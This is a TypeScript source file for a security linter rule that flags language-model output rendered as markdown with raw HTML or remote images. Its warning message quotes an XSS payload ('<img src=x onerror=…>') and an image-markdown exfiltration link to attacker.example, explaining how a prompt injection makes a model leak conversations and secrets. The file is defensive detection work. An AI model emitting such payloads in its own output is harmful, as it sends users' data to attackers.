import type { Node } from 'web-tree-sitter';
import { stringValue } from '../../engine/facts/javascript';
import { defineRule, type RuleContext } from '../../engine/rule';
import type { TaintPath, TaintQuery } from '../../engine/taint/types';
import type { Fix } from '../../engine/types';
import { calleeName, dottedCallee, fromSource, isPython, taintedAt, type TaintedValue } from '../llm';
import { htmlSinkAt, listsTag, markdownRenderIn } from '../output-sinks';
import { AI_CODE } from '../prefilters';

const QUERY: TaintQuery = { labels: ['llm-output'], sanitizers: ['number'] };
const SANITIZED: TaintQuery = { labels: ['llm-output'], sanitizers: ['number', 'html'] };

/** react-markdown's component, whatever it is imported as. */
const REACT_MARKDOWN = /^react-markdown(\.(default|Markdown|MarkdownAsync|MarkdownHooks))?$/;
const REHYPE_RAW = /^rehype-raw(\.default)?$/;
const REHYPE_SANITIZE = /^rehype-sanitize(\.default)?$/;

/** Sanitizers that keep `<img src="https://…">` unless told otherwise (DOMPurify, js-xss, nh3). */
const KEEPS_IMAGES = /(^|\.)(dompurify|isomorphic-dompurify|DOMPurify)(\.default)?(\(\))?\.sanitize$|^xss(\.filterXSS)?$|^nh3\.clean$/;
/** Sanitizers whose default allow-list has no `img` (sanitize-html, bleach). */
const DROPS_IMAGES = /^sanitize-html(\.default)?$|^bleach\.(clean|(sanitizer\.)?Cleaner\(\)\.clean)$/;
/** Escaping the rendered HTML turns every tag into text. */
const ESCAPES = /^(escape-html|he\.(encode|escape)|lodash\.escape|lodash\/escape|lodash-es\.escape|underscore\.escape|validator\.escape|escape-goat\.htmlEscape|html-entities\.(encode|escape)|entities\.(encodeHTML|escapeUTF8|escape)|html\.escape|markupsafe\.escape|markupsafe\.Markup\.escape|django\.utils\.html\.(escape|conditional_escape|strip_tags)|(flask|jinja2|cgi|xml\.sax\.saxutils)\.escape|nh3\.clean_text)$/;
/**
 * Image policies a JS file sets on its renderer: a markdown-it image rule, link validation or
 * `disable('image')`, a marked renderer with its own `image`, a DOMPurify hook.
 */
const IMAGE_POLICY = /\.rules\.image\s*=|\.validateLink\s*=|\.disable\(\s*\[?[^)]*['"]image['"]|\brenderer\b[\s\S]{0,300}?\bimage\s*[(:=]|[pP]urify\w*\.addHook\(/;

interface State extends TaintedValue {
  /** The renderer or component, for messages. */
  renderer: string;
  rawHtml: boolean;
  images: boolean;
  /** react-markdown: the rehype-raw entry to add rehype-sanitize after. */
  rawPlugin?: Node;
}

export default defineRule<State>({
  meta: {
    id: 'llm-output-markdown-exfiltration',
    group: 'output-handling',
    title: 'Model output is rendered as markdown with raw HTML or remote images',
    severity: 'warning',
    status: 'stable',
    fix: 'unsafe',
    cwe: [79, 201],
    owasp: ['LLM05'],
    confidence: 'high',
    references: [
      'https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/',
      'https://github.com/remarkjs/react-markdown#security',
      'https://github.com/rehypejs/rehype-sanitize',
      'https://cwe.mitre.org/data/definitions/79.html',
      'https://cwe.mitre.org/data/definitions/201.html',
    ],
  },
  languages: ['python', 'javascript', 'typescript', 'tsx'],
  requires: AI_CODE,
  check(match, ctx) {
    const { component, element } = match.captures;
    if (component && element) return reactMarkdown(ctx, component, element);
    const sink = htmlSinkAt(match, ctx);
    if (!sink) return undefined;
    const found = taintedAt(ctx, sink.value, QUERY, sink.node);
    const render = found && markdownRenderIn(ctx, found.path);
    if (!found || !render) return undefined;
    const rawHtml = render.rawHtml && !!ctx.taint.taintOf(sink.value, SANITIZED);
    const images = !imagesBlocked(ctx, found.path, render.call);
    if (!rawHtml && !images) return undefined;
    return { ...found, renderer: render.name, rawHtml, images, severity: rawHtml ? 'error' : undefined, confidence: sink.confidence };
  },
  message(s) {
    const allows = s.rawHtml && s.images ? 'with raw HTML and remote images' : s.rawHtml ? 'with raw HTML' : 'with remote images';
    const html = s.rawHtml ? ' `<img src=x onerror=…>` runs script in the page, and' : '';
    const advice = [s.rawHtml ? 'sanitize the HTML (rehype-sanitize, DOMPurify, bleach)' : '', s.images ? 'load images only from hosts you allow (`urlTransform`, an image renderer rule, a sanitizer hook) or drop them' : ''].filter(Boolean).join(' and ');
    return `Model output is rendered as markdown by \`${s.renderer}\` ${allows} (${fromSource(s.path)}): after a prompt injection,${html} \`![](https://attacker.example/?q=…)\` sends whatever the model saw — the conversation, retrieved documents, secrets — to another host as soon as it is shown. Instead, ${advice}.`;
  },
  fixes(s, ctx): Fix[] {
    if (!s.rawPlugin) return [];
    const name = sanitizeImport(ctx);
    if (!name) return [];
    const edits = [{ start: s.rawPlugin.endIndex, end: s.rawPlugin.endIndex, newText: `, ${name.local}` }, ...name.edits];
    return [{ title: 'Add rehype-sanitize after rehype-raw', applicability: 'unsafe', edits }];
  },
});

/** Whether something after the renderer on the path drops images, or the file sets an image policy. */
function imagesBlocked(ctx: RuleContext, path: TaintPath, render: Node): boolean {
  if (!isPython(ctx) && IMAGE_POLICY.test(ctx.text)) return true;
  const at = path.steps.findIndex((s) => s.node.id === render.id);
  for (const step of path.steps.slice(at + 1)) {
    const call = step.node;
    if (call.type !== 'call' && call.type !== 'call_expression') continue;
    const name = calleeName(ctx, call) ?? dottedCallee(call);
    if (ESCAPES.test(name)) return true;
    if (KEEPS_IMAGES.test(name) || KEEPS_IMAGES.test(dottedCallee(call))) {
      if (isPython(ctx)) {
        const tags = ctx.python.argument(call, 'tags', 1);
        if (tags && !listsTag(ctx, tags, 'img')) return true;
        continue;
      }
      const options = ctx.javascript.callArguments(call)[1];
      const forbid = ctx.javascript.property(options, 'FORBID_TAGS');
      const allowed = ctx.javascript.property(options, 'ALLOWED_TAGS');
      if ((forbid && listsTag(ctx, forbid, 'img')) || (allowed && !listsTag(ctx, allowed, 'img')) || ctx.javascript.property(options, 'ALLOWED_URI_REGEXP')) return true;
      continue;
    }
    if (DROPS_IMAGES.test(name)) {
      if (isPython(ctx)) {
        // `bleach.Cleaner(tags=…).clean(html)` takes its tags where the cleaner is made.
        const receiver = call.childForFieldName('function')?.childForFieldName('object');
        const cleaner = receiver && /Cleaner\(\)\.clean$/.test(name) ? ctx.python.definition(receiver) : undefined;
        const tags = cleaner ? (cleaner.type === 'call' ? ctx.python.argument(cleaner, 'tags', 0) : undefined) : ctx.python.argument(call, 'tags', 1);
        if (!tags || !listsTag(ctx, tags, 'img')) return true;
        continue;
      }
      const tags = ctx.javascript.property(ctx.javascript.callArguments(call)[1], 'allowedTags');
      if (!tags || !listsTag(ctx, tags, 'img')) return true;
    }
  }
  return false;
}

/** `<ReactMarkdown rehypePlugins={[rehypeRaw]}>{text}</ReactMarkdown>` and `children={text}`. */
function reactMarkdown(ctx: RuleContext, component: Node, element: Node): State | undefined {
  if (element.type !== 'jsx_opening_element' && element.type !== 'jsx_self_closing_element') return undefined;
  const name = ctx.javascript.resolve(component);
  if (!name || !REACT_MARKDOWN.test(name)) return undefined;
  // Spread props (`{...options}`) may set anything: too little is known to judge.
  if (element.namedChildren.some((c) => c?.type === 'jsx_expression')) return undefined;
  const props = new Map<string, Node | undefined>();
  for (const attr of element.namedChildren) {
    if (attr?.type !== 'jsx_attribute') continue;
    const [key, value] = attr.namedChildren;
    if (key) props.set(key.text, value?.type === 'jsx_expression' ? (value.namedChildren[0] ?? undefined) : (value ?? undefined));
  }
  const contents = element.type === 'jsx_opening_element' ? (element.parent?.namedChildren ?? []).filter((c): c is Node => c?.type === 'jsx_expression') : [];
  const children = props.get('children');
  let found: TaintedValue | undefined;
  for (const value of [...contents, ...(children ? [children] : [])]) if ((found = taintedAt(ctx, value, QUERY, element))) break;
  if (!found) return undefined;

  const plugins = props.get('rehypePlugins');
  const list = plugins ? ctx.javascript.definition(plugins) : undefined;
  const entries = list?.type === 'array' ? list.namedChildren.filter((c): c is Node => !!c && c.type !== 'comment') : [];
  const pluginName = (entry: Node) => ctx.javascript.resolve(entry.type === 'array' ? entry.namedChildren[0] : entry) ?? '';
  const raw = entries.findIndex((e) => REHYPE_RAW.test(pluginName(e)));
  const sanitizedAfter = raw >= 0 && entries.slice(raw + 1).some((e) => REHYPE_SANITIZE.test(pluginName(e)));
  const rawHtml = raw >= 0 && !sanitizedAfter;

  const urlTransform = props.get('urlTransform');
  const disallowed = props.get('disallowedElements');
  const allowed = props.get('allowedElements');
  const components = props.get('components');
  const imagePolicy =
    (!!urlTransform && ctx.javascript.resolve(urlTransform) !== 'react-markdown.defaultUrlTransform') ||
    props.has('transformImageUri') ||
    props.has('allowElement') ||
    (!!disallowed && listsTag(ctx, disallowed, 'img')) ||
    (!!allowed && !listsTag(ctx, allowed, 'img')) ||
    (!!components && !!ctx.javascript.property(components, 'img'));
  if (!rawHtml && imagePolicy) return undefined;
  // Only an inline plugin list is edited: a shared list may serve other components.
  const rawPlugin = rawHtml && plugins && list && plugins.id === list.id ? entries[raw] : undefined;
  return { ...found, renderer: component.text, rawHtml, images: !imagePolicy, rawPlugin, severity: rawHtml ? 'error' : undefined };
}

/** The local name of rehype-sanitize's default export, with the import to add when there is none. */
function sanitizeImport(ctx: RuleContext): { local: string; edits: { start: number; end: number; newText: string }[] } | undefined {
  const imports = ctx.tree.rootNode.namedChildren.filter((c): c is Node => c?.type === 'import_statement');
  for (const statement of imports) {
    if (stringValue(statement.childForFieldName('source')) !== 'rehype-sanitize') continue;
    const clause = statement.namedChildren.find((c) => c?.type === 'import_clause');
    const local = clause?.namedChildren.find((c) => c?.type === 'identifier');
    return local ? { local: local.text, edits: [] } : undefined;
  }
  const last = imports[imports.length - 1];
  // Without ES imports (CommonJS) or with the name taken, leave the edit to a person.
  if (!last || ctx.javascript.scopes.scopeAt(ctx.tree.rootNode).lookup('rehypeSanitize', ctx.text.length)) return undefined;
  return { local: 'rehypeSanitize', edits: [{ start: last.endIndex, end: last.endIndex, newText: "\nimport rehypeSanitize from 'rehype-sanitize';" }] };
}
